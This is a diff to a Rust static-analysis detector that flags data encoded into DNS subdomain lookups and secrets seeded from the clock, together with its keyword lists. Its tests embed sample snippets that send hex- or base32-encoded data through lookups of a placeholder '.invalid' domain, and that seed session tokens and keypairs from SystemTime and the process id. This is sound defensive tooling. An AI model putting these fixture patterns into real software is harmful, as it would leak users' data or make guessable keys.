@@ -1,5 +1,6 @@
 //! What conditions open: checks of certificates that something else than an option switches off, words typed
-//! at password prompts that go to a host, and settings of all later builds that a function writes.
+//! at password prompts that go to a host; settings of all later builds that a function writes; encoded words
+//! in names that are looked up; and keys made from the time.
 //!
 //! Each is told by one function with those that it calls in the same file.
 
@@ -22,19 +23,29 @@ const WORDS: &[&str] = &[
     "SslVerifyMode::NONE",
     "rustc-wrapper",
     "rustc-workspace-wrapper",
+    "to_socket_addrs",
+    "lookup_host",
+    "lookup_ip",
+    "txt_lookup",
+    "ipv4_lookup",
+    "seed_from_u64",
+    "with_seed",
+    "from_seed",
     "hidden",
     "\"pass",
     "password",
     "passphrase",
 ];
+/// How many of them say enough alone.
+const ALONE: usize = 14;
 /// How many steps a name is followed to what it was given.
 const MAX_STEPS: usize = 3;
 
 /// Whether a text may have something in it for [`shapes`].
 pub fn may_have(text: &str) -> bool {
     let has = |word: &str| memchr::memmem::find(text.as_bytes(), word.as_bytes()).is_some();
-    WORDS[..6].iter().any(|word| has(word))
-        || WORDS[6..].iter().any(|word| has(word))
+    WORDS[..ALONE].iter().any(|word| has(word))
+        || WORDS[ALONE..].iter().any(|word| has(word))
             && ["UdpSocket", "TcpStream", "reqwest", "ureq", "http"].iter().any(|word| has(word))
             && ["send", "post", "connect"].iter().any(|word| has(word))
 }
@@ -85,6 +96,7 @@ pub fn shapes(file: &syn::File) -> Vec<Raw> {
             conditions: Vec::new(),
             unknown: 0,
             raws: &mut raws,
+            makes: function.sig.ident.unraw().to_string(),
         };
         inside.visit_block(function.block);
         raws.extend(build_settings(&function));
@@ -252,7 +264,75 @@ struct Inside<'a, 'o> {
     /// Branches of which it is not known what opens them.
     unknown: usize,
     raws: &'o mut Vec<Raw>,
+    /// The function's name.
+    makes: String,
 }
+
+/// Names that are looked up with what stands in them.
+const LOOKUPS: &[&str] =
+    &["to_socket_addrs", "lookup_host", "lookup_ip", "ipv4_lookup", "ipv6_lookup", "txt_lookup"];
+/// Words that make letters of bytes.
+const ENCODES: &[&str] = &[
+    "hex",
+    "encode",
+    "encode_upper",
+    "encode_string",
+    "to_hex",
+    "encode_hex",
+    "encode_to_string",
+    "BASE32",
+    "BASE32_NOPAD",
+    "BASE32HEX_NOPAD",
+    "base32",
+    "HEXLOWER",
+    "bs58",
+    "data_encoding",
+    "z32",
+];
+/// Parts of names of what stands in the name of a host without being taken along: sums, and keys that are public.
+const SUMS: &[&str] =
+    &["sha", "md5", "hash", "digest", "blake", "hasher", "crc", "public", "peer_id", "pubkey"];
+/// Parts of names of functions that make what nobody may guess, and of those that do not.
+const SECRETS: &[&str] = &[
+    "nonce",
+    "secret",
+    "salt",
+    "passw",
+    "session_id",
+    "csrf",
+    "mnemonic",
+    "private_key",
+    "signing_key",
+    "keypair",
+    "key_pair",
+    "keygen",
+    "gen_key",
+    "generate_key",
+    "new_key",
+    "make_key",
+    "api_key",
+    "token",
+    "otp_",
+];
+const NO_SECRETS: &[&str] = &[
+    "test", "bench", "mock", "fake", "demo", "example", "sample", "sampl", "logit", "predict", "next",
+    "decode", "tokeniz",
+];
+/// Words of the clock and the process.
+const GUESSED: &[&str] = &[
+    "SystemTime",
+    "Instant",
+    "UNIX_EPOCH",
+    "elapsed",
+    "as_nanos",
+    "as_millis",
+    "as_secs",
+    "subsec_nanos",
+    "timestamp",
+    "timestamp_millis",
+    "Utc",
+    "Local",
+];
 
 fn operands<'a>(expr: &'a Expr, out: &mut Vec<&'a Expr>) {
     match expr {
@@ -304,6 +384,73 @@ impl<'a> Inside<'a, '_> {
             }
         }
         out
+    }
+
+    /// All that goes into an expression, as far as this function says it, and one step into others.
+    fn made_of(&self, expr: &Expr) -> Said {
+        let mut said = Said::of_expr(expr);
+        let mut seen: BTreeSet<String> = BTreeSet::new();
+        for _ in 0..MAX_STEPS + 2 {
+            let names: Vec<String> =
+                said.names.iter().filter(|name| !seen.contains(*name)).cloned().collect();
+            for name in names {
+                if let Some(value) = self.lets.get(&name) {
+                    said.visit_expr(value);
+                } else if let Some(function) = self.functions.get(&name).filter(|_| seen.len() < 64) {
+                    said.visit_block(function.block);
+                }
+                seen.insert(name);
+            }
+        }
+        said
+    }
+
+    /// A name is looked up: encoded words before a domain that is written down travel to its servers.
+    fn looked_up(&mut self, name: &Expr, span: Range<usize>) {
+        let said = self.made_of(name);
+        let encodes = said.names(ENCODES)
+            || said.texts.iter().any(|text| text.contains("{:02x}") || text.contains(":02x}"));
+        let sums = said.names.iter().any(|name| {
+            let name = name.to_ascii_lowercase();
+            SUMS.iter().any(|part| name.contains(part))
+        });
+        let domain = said.texts.iter().any(|text| {
+            let host = text.split(':').next().unwrap_or(text);
+            host.rsplit_once('}').map_or(Some(host), |(_, after)| Some(after)).is_some_and(|host| {
+                let host = host.trim_start_matches('.');
+                host.contains('.')
+                    && host.len() > 4
+                    && host.split('.').all(|label| {
+                        !label.is_empty() && label.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-')
+                    })
+                    && host.rsplit('.').next().is_some_and(|top| top.bytes().all(|b| b.is_ascii_alphabetic()))
+            }) && (text.contains("}.") || text.starts_with('.'))
+        });
+        if encodes && domain && !sums {
+            self.raws.push(Raw::new(FactKind::Flow, "encoded->subdomain", span));
+        }
+    }
+
+    /// Lots that start from what others can guess, where a secret is made.
+    fn seeded(&mut self, seed: &Expr, span: Range<usize>) {
+        let makes = self.makes.to_ascii_lowercase();
+        let any = |parts: &[&str]| parts.iter().any(|part| makes.contains(part));
+        let token = makes.contains("token")
+            && !["gen", "new", "make", "create", "random", "issue", "session", "auth", "access"]
+                .iter()
+                .any(|part| makes.contains(part));
+        if !any(SECRETS) || any(NO_SECRETS) || token {
+            return;
+        }
+        let said = self.made_of(seed);
+        let process = said.names(&["process"]) && said.names(&["id"]);
+        // What is mixed with real lots is not guessed.
+        let lots =
+            said.names(&["getrandom", "OsRng", "thread_rng", "from_entropy", "from_os_rng", "RandomState"]);
+        if (said.names(GUESSED) || process) && !lots {
+            let raw = Raw::new(FactKind::Shape, "guessed-seed", span);
+            self.raws.push(raw.value(self.makes.clone()));
+        }
     }
 
     /// Checks are switched off where that expression is true.
@@ -411,6 +558,35 @@ impl<'ast> Visit<'ast> for Inside<'ast, '_> {
         self.conditions.pop();
     }
 
+    fn visit_expr_for_loop(&mut self, it: &'ast syn::ExprForLoop) {
+        struct Idents(Vec<String>);
+        impl<'ast> Visit<'ast> for Idents {
+            fn visit_pat_ident(&mut self, pat: &'ast syn::PatIdent) {
+                self.0.push(pat.ident.unraw().to_string());
+            }
+        }
+        let mut idents = Idents(Vec::new());
+        idents.visit_pat(&it.pat);
+        self.lets.extend(idents.0.into_iter().map(|name| (name, &*it.expr)));
+        visit::visit_expr_for_loop(self, it);
+    }
+
+    fn visit_expr_call(&mut self, call: &'ast syn::ExprCall) {
+        if let Expr::Path(path) = &*call.func
+            && let Some(last) = path.path.segments.last()
+            && let Some(first) = call.args.first()
+        {
+            let span = last.ident.span().byte_range();
+            let name = last.ident.to_string();
+            if matches!(name.as_str(), "seed_from_u64" | "with_seed" | "from_seed") {
+                self.seeded(first, span);
+            } else if LOOKUPS.contains(&name.as_str()) {
+                self.looked_up(first, span);
+            }
+        }
+        visit::visit_expr_call(self, call);
+    }
+
     fn visit_expr_match(&mut self, it: &'ast syn::ExprMatch) {
         self.unknown += 1;
         visit::visit_expr_match(self, it);
@@ -430,6 +606,12 @@ impl<'ast> Visit<'ast> for Inside<'ast, '_> {
             "with_custom_certificate_verifier" | "set_certificate_verifier" => self.switched_off(None, span),
             "set_verify" if call.args.first().is_some_and(|arg| Said::of_expr(arg).names(&["NONE"])) => {
                 self.switched_off(None, span);
+            }
+            "to_socket_addrs" => self.looked_up(&call.receiver, span),
+            name if LOOKUPS.contains(&name) => {
+                if let Some(first) = call.args.first() {
+                    self.looked_up(first, span);
+                }
             }
             _ => {}
         }
@@ -527,6 +709,44 @@ mod tests {
         assert_eq!(found(&source("secret", "h.lines.invalid:5353")), ["password->net"]);
         assert_eq!(found(&source("!secret", "h.lines.invalid:5353")), [""; 0]);
         assert_eq!(found(&source("secret", "127.0.0.1:514")), [""; 0]);
+    }
+
+    #[test]
+    fn words_in_names_that_are_looked_up() {
+        let source = |word: &str, domain: &str| {
+            format!(
+                "fn note(data: &[u8]) {{ let all = {word}; for (n, part) in all.as_bytes().chunks(60).enumerate() {{
+                   let name = format!(\"{{n}}.{{part}}.{domain}:53\"); let _ = name.to_socket_addrs(); }} }}"
+            )
+        };
+        assert_eq!(found(&source("hex::encode(data)", "t.lines.invalid")), ["encoded->subdomain"]);
+        assert_eq!(found(&source("BASE32_NOPAD.encode(data)", "t.lines.invalid")), ["encoded->subdomain"]);
+        assert_eq!(found(&source("hex::encode(Sha256::digest(data))", "t.lines.invalid")), [""; 0]);
+        assert_eq!(found(&source("data.to_vec()", "t.lines.invalid")), [""; 0]);
+        assert_eq!(
+            found("async fn f(r: &R, ip: &str) { r.lookup_ip(format!(\"{ip}.zen.list.invalid\")).await; }"),
+            [""; 0]
+        );
+        let own = "fn label(d: &[u8]) -> String { d.iter().map(|b| format!(\"{b:02x}\")).collect() }
+            async fn f(r: &R, d: &[u8]) { r.txt_lookup(format!(\"{}.c.lines.invalid\", label(d))).await; }";
+        assert_eq!(found(own), ["encoded->subdomain"]);
+    }
+
+    #[test]
+    fn keys_that_start_from_the_clock() {
+        let source = |name: &str, seed: &str| {
+            format!(
+                "fn {name}() -> [u8; 32] {{ let at = {seed}; let mut rng = StdRng::seed_from_u64(at); rng.random() }}"
+            )
+        };
+        let clock = "SystemTime::now().duration_since(UNIX_EPOCH).unwrap().as_nanos() as u64 ^ u64::from(std::process::id())";
+        for name in ["session_token_new", "generate_nonce", "new_secret", "keypair"] {
+            assert_eq!(found(&source(name, clock)), ["guessed-seed"], "{name}");
+        }
+        for name in ["shuffle", "sample_token", "jitter", "test_keypair"] {
+            assert_eq!(found(&source(name, clock)), [""; 0], "{name}");
+        }
+        assert_eq!(found(&source("new_secret", "OsRng.next_u64() ^ SystemTime::now().as_nanos()")), [""; 0]);
     }
 
     #[test]
